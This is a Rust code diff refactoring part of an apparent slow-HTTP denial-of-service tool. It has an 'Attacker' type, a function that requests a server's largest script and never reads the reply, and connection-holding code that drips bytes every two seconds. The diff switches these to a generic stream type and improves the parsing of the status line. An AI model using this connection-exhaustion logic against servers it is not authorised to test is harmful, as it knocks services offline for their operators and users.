@@ -4,16 +4,16 @@ use std::fmt::Write;
 use std::time::Duration;
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt, Interest};
-use tokio::net::TcpStream;
 
 use crate::attacker::Attacker;
+use crate::stream::Stream;
 use crate::target::Requester;
 
 /// Between two bytes of what never ends.
 const DRIP_EVERY: Duration = Duration::from_secs(2);
 /// After so long what is not read is opened anew: most servers have given it up by then, and that they
 /// have cannot be seen behind what is unread.
-const REOPEN_AFTER: Duration = Duration::from_secs(12);
+pub(super) const REOPEN_AFTER: Duration = Duration::from_secs(12);
 
 /// Requests the largest script and reads nothing of it.
 pub(super) async fn unread_get(me: &Attacker, n: u64) -> Result<(), String> {
@@ -22,7 +22,7 @@ pub(super) async fn unread_get(me: &Attacker, n: u64) -> Result<(), String> {
     let request = head(me, &requester, "GET", &me.script) + "\r\n";
     send(&mut stream, request.as_bytes()).await?;
     let _held = me.hold();
-    let reset = tokio::time::timeout(REOPEN_AFTER, stream.ready(Interest::ERROR)).await;
+    let reset = tokio::time::timeout(REOPEN_AFTER, stream.tcp().ready(Interest::ERROR)).await;
     Err(if reset.is_ok() { "reset" } else { "opened anew" }.to_owned())
 }
 
@@ -65,12 +65,14 @@ fn head(me: &Attacker, requester: &Requester, method: &str, path: &str) -> Strin
     head
 }
 
-async fn send(stream: &mut TcpStream, bytes: &[u8]) -> Result<(), String> {
-    stream.write_all(bytes).await.map_err(|it| it.kind().to_string())
+pub(super) async fn send(stream: &mut Stream, bytes: &[u8]) -> Result<(), String> {
+    let told = |it: std::io::Error| it.kind().to_string();
+    stream.write_all(bytes).await.map_err(told)?;
+    stream.flush().await.map_err(told)
 }
 
 /// Holds a connection until the server closes it, and counts the status of its answer.
-async fn hold(me: &Attacker, mut stream: TcpStream, drips: bool) -> Result<(), String> {
+pub(super) async fn hold(me: &Attacker, mut stream: Stream, drips: bool) -> Result<(), String> {
     let _held = me.hold();
     let mut buffer = [0; 512];
     let mut is_answered = false;
@@ -83,7 +85,8 @@ async fn hold(me: &Attacker, mut stream: TcpStream, drips: bool) -> Result<(), S
                     return Err("closed".to_owned());
                 }
                 // "HTTP/1.1 408 …".
-                if let Some(status) = bytes.get(9..12).filter(|_| !is_answered) {
+                let status = bytes.get(9..12).filter(|_| bytes.starts_with(b"HTTP/"));
+                if let Some(status) = status.filter(|_| !is_answered) {
                     is_answered = true;
                     me.answered(&String::from_utf8_lossy(status));
                 }
